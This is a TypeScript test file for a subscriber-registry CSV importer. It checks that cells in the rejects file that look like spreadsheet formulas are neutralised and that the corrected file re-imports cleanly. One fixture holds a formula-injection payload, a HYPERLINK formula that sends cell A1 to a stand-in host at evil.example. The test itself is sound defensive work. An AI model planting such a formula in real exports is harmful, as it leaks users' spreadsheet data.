/** @module Tests: the rejects file opens safely in a spreadsheet (formulas neutralised) and imports again once fixed. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { REGISTRY_COLUMNS, type Subscriber } from '../domain/subscriber.js';
import { tempDir } from '../test-support/fixtures.js';
import { importRegistry } from './import.js';
import type { SubscriberSink, UpsertOutcome } from './sink.js';

class Sink implements SubscriberSink {
  readonly rows = new Map<string, Subscriber>();
  upsertBatch(rows: readonly Subscriber[]): UpsertOutcome {
    for (const s of rows) this.rows.set(s.contract_no, s);
    return { added: rows.length, updated: 0, unchanged: 0, rejected: [] };
  }
}

const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")';
/** A prepaid row whose meter number has a wrong check digit (…24, the right one is …22), with formula-like text. */
const row = (meter: string, name: string, district: string) =>
  `LBV-1,${meter},electricity,prepaid,social,2,140,particulier,"${name.replaceAll('"', '""')}",Libreville Centre,${district},+24177123456,600727,123456,01,1,02,2014-01-01`;

test('rejected rows are written with formula cells neutralised; the fixed rejects file imports as the original text', async () => {
  const t = tempDir('guichet-rejects-');
  try {
    const file = join(t.dir, 'registry.csv');
    writeFileSync(file, `${REGISTRY_COLUMNS.join(',')},note\n${row('43135625624', HYPERLINK, '@SUM(1)')},-2+3\n`);
    const first = await importRegistry(file, new Sink(), { thread: 'main', progress: false });
    assert.equal(first.rejected, 1, 'the bad check digit is refused');
    const text = readFileSync(`${file}.rejects.csv`, 'utf8');
    const [, cells] = parse(text) as string[][];
    const at = (col: string) => cells[2 + REGISTRY_COLUMNS.indexOf(col as (typeof REGISTRY_COLUMNS)[number])];
    assert.equal(at('holder_name'), `'${HYPERLINK}`, 'a formula in a name is text in the spreadsheet');
    assert.equal(at('district'), `'@SUM(1)`);
    assert.equal(at('phone'), `'+24177123456`, 'a phone is not read as the number 24177123456');
    assert.equal(cells.at(-1), `'-2+3`, 'extra columns too');
    assert.equal(cells[0], '2', 'the line number is a plain number');
    for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `no cell starts a formula: ${JSON.stringify(c)}`);

    // The operator fixes the check digit in the rejects file and imports it as it is (line and reason are extra columns).
    const fixed = join(t.dir, 'fixed.csv');
    writeFileSync(fixed, text.replace(',43135625624,', ',43135625622,'));
    const sink = new Sink();
    const again = await importRegistry(fixed, sink, { thread: 'main', progress: false });
    assert.equal(again.rejected, 0, readFileSync(`${fixed}.rejects.csv`, { encoding: 'utf8', flag: 'a+' }));
    const s = sink.rows.get('LBV-1');
    assert.equal(s?.holder_name, HYPERLINK, 'the neutralising apostrophe is not imported');
    assert.equal(s?.phone, '+24177123456');
    assert.equal(s?.district, '@SUM(1)');
  } finally {
    t.cleanup();
  }
});
